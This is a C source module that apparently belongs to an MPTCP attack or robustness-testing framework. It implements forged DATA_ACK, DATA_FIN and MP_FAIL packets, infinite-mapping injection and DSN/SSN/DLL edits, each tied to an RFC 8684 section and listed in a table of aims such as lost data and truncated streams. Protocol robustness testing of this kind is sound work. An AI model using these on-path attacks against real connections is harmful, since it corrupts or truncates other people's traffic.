/* SPDX-License-Identifier: MIT */
/* attack/a_data.c - attacks on the data sequence signal (RFC 8684 3.3, 3.7): what it says acts on
 * the whole connection, whichever subflow it came by. */
#include "attack/private.h"

/* Both levels say "arrived": nobody keeps the octets any more. */
static int data_ack(struct mpt_attack *a, struct mpt_attack_aim *m, struct mpt_attack_seg *p, uint64_t now)
{
    struct attack_forge g = { .has_ack = 1, .ack = p->s.seq + p->s.len };
    struct mpt_dss d = { .flags = DSS_ACK };

    if (!p->s.len || !p->flow || !p->flow->side[p->v.dir].has_map || !mpt_attack_turn(m, p->v.dir))
        return MPT_ATTACK_PASS;
    d.ack = (uint32_t)p->flow->side[p->v.dir].dsn;
    mpt_forge_dss(&g, p->flow, !p->v.dir, &d);
    mpt_forge_send(a, p->flow, !p->v.dir, &g, now);
    return mpt_attack_drop(a, p, now);
}

/* Of octets that were never sent. */
static int ack_beyond(struct mpt_attack *a, struct mpt_attack_aim *m, struct mpt_attack_flow *f, uint32_t dir,
                      uint64_t now)
{
    struct attack_forge g = { .flags = 0 };
    struct mpt_dss d = { .flags = DSS_ACK, .ack = (uint32_t)(f->side[!dir].dsn + m->play.offset) };

    if (!f->side[!dir].has_map)
        return 0;
    mpt_forge_dss(&g, f, dir, &d);
    return mpt_forge_send(a, f, dir, &g, now);
}

/* Without data: SSN 0, length 1 (RFC 8684 3.3.3). */
static int data_fin(struct mpt_attack *a, struct mpt_attack_aim *m, struct mpt_attack_flow *f, uint32_t dir,
                    uint64_t now)
{
    struct attack_forge g = { .flags = 0 };
    struct mpt_dss d = { .flags = DSS_MAP | DSS_FIN, .dsn = f->side[dir].dsn + m->play.offset, .dll = 1 };

    if (!f->side[dir].has_map)
        return 0;
    mpt_forge_dss(&g, f, dir, &d);
    return mpt_forge_send(a, f, dir, &g, now);
}

/* DLL 0: from here on no mapping is needed (RFC 8684 3.7). */
static int infinite(struct mpt_attack *a, struct mpt_attack_aim *m, struct mpt_attack_seg *p, uint64_t now)
{
    struct attack_dss d;

    (void)a;
    (void)now;
    if (!p->s.len || !mpt_edit_dss(p, &d) || !d.dll || !mpt_attack_turn(m, p->v.dir))
        return MPT_ATTACK_PASS;
    mpt_bytes_put16(d.dll, 0);
    if (d.checksum)
        mpt_bytes_put16(d.checksum, 0);
    p->edited = 1;
    return MPT_ATTACK_PASS;
}

/* Of the other direction's last octet: its upper half may be a guess (RFC 8684 3.7). */
static int mp_fail(struct mpt_attack *a, struct mpt_attack_aim *m, struct mpt_attack_flow *f, uint32_t dir, uint64_t now)
{
    struct attack_forge g = { .flags = 0 };
    struct mpt_mp_fail o = { .dsn = f->side[!dir].dsn };

    (void)m;
    if (!f->mptcp)
        return 0;
    g.opts = (uint8_t)(mpt_mp_fail_build(g.opt, &o) - g.opt);
    return mpt_forge_send(a, f, dir, &g, now);
}

enum { EDIT_DSN, EDIT_SSN, EDIT_DLL };

static int edit_map(struct mpt_attack *a, struct mpt_attack_aim *m, struct mpt_attack_seg *p, uint64_t now)
{
    struct attack_dss d;

    (void)a;
    (void)now;
    if (!p->s.len || !mpt_edit_dss(p, &d) || !d.dsn || !mpt_attack_turn(m, p->v.dir))
        return MPT_ATTACK_PASS;
    if (m->row->arg == EDIT_DSN)
        mpt_edit_add(d.dsn, (int)(d.ssn - d.dsn), m->play.offset);
    else if (m->row->arg == EDIT_SSN)
        mpt_edit_add(d.ssn, 4, m->play.offset);
    else
        mpt_edit_add(d.dll, 2, m->play.offset);
    p->edited = 1;
    mpt_edit_dss_checksum(p);
    return MPT_ATTACK_PASS;
}

const struct mpt_attack_row mpt_attack_data[] = {
    { .name = "data-ack", .line = "swallows data segments and acknowledges them at both levels",
      .needs = "the path, data sequence numbers", .aims = "data that is lost for ever", .rfc = "RFC 8684 3.3.2",
      .packet = data_ack },
    { .name = "data-ack-beyond", .line = "acknowledges data that was never sent", .needs = "data sequence numbers",
      .aims = "a sender that frees or skips what it should keep", .rfc = "RFC 8684 3.3.2", .every = 20, .offset = 1 << 20,
      .forge = ack_beyond },
    { .name = "data-fin", .line = "forges a DATA_FIN 100 kB behind what has been sent, within the window", .needs = "data sequence numbers",
      .aims = "a truncated stream", .rfc = "RFC 8684 3.3.3", .every = 5, .count = 20, .offset = 70 * 1428, .forge = data_fin },
    { .name = "infinite-map", .line = "makes a mapping infinite (DLL 0)", .needs = "the path",
      .aims = "a fall back to TCP, on one side only", .rfc = "RFC 8684 3.7", .every = 10, .count = 3,
      .packet = infinite },
    { .name = "mp-fail", .line = "forges MP_FAIL", .needs = "sequence numbers; keys for the DSN's upper half",
      .aims = "the subflow, or a fall back to TCP", .rfc = "RFC 8684 3.7", .every = 10, .count = 3, .forge = mp_fail },
    { .name = "edit-dsn", .line = "moves the DSN of every 10th mapping", .needs = "the path",
      .aims = "octets at another place of the stream", .rfc = "RFC 8684 3.3.1", .every = 10, .offset = 1000,
      .arg = EDIT_DSN, .packet = edit_map },
    { .name = "edit-ssn", .line = "moves the SSN of every 10th mapping", .needs = "the path",
      .aims = "octets at another place of the stream", .rfc = "RFC 8684 3.3.1", .every = 10, .offset = 100,
      .arg = EDIT_SSN, .packet = edit_map },
    { .name = "edit-dll", .line = "makes every 10th mapping longer", .needs = "the path",
      .aims = "a mapping that covers the next one's octets", .rfc = "RFC 8684 3.3.1", .every = 10, .offset = 100,
      .arg = EDIT_DLL, .packet = edit_map },
    { .name = NULL },
};
